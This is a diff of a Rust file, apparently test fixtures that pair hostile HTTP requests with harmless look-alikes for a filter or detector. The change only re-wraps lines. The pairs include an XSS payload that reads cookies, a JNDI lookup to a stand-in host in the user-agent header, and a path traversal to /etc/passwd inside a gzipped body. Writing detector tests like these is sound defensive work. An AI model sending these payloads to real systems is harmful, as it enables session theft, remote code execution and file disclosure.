@@ -24,7 +24,8 @@ impl Sample {
 
     /// The request as HTTP/1.1 bytes, that ends the connection.
     pub fn bytes(&self, host: &str) -> Vec<u8> {
-        let mut head = format!("{} {} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n", self.method, self.target);
+        let mut head =
+            format!("{} {} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n", self.method, self.target);
         for (name, value) in &self.fields {
             head.push_str(&format!("{name}: {value}\r\n"));
         }
@@ -66,12 +67,24 @@ pub fn pairs() -> Vec<(Sample, Sample)> {
             post("form", &[FORM], b"user=Conan+O%27Brien&pw=x".to_vec()),
         ),
         (
-            post("json", &[JSON], br#"{"comment":{"text":"<script>alert(document.cookie)</script>"}}"#.to_vec()),
-            post("json", &[JSON], br#"{"comment":{"text":"if 5 < 6 and 7 > 3, then script the alert"}}"#.to_vec()),
+            post(
+                "json",
+                &[JSON],
+                br#"{"comment":{"text":"<script>alert(document.cookie)</script>"}}"#.to_vec(),
+            ),
+            post(
+                "json",
+                &[JSON],
+                br#"{"comment":{"text":"if 5 < 6 and 7 > 3, then script the alert"}}"#.to_vec(),
+            ),
         ),
         (
             get("header", "/item", &[("user-agent", "${jndi:ldap://198.51.100.7/a}")]),
-            get("header", "/item", &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101")]),
+            get(
+                "header",
+                "/item",
+                &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101")],
+            ),
         ),
         (
             post("gzip body", &[FORM, GZIP], gzip(b"file=..%2F..%2F..%2F..%2Fetc%2Fpasswd")),
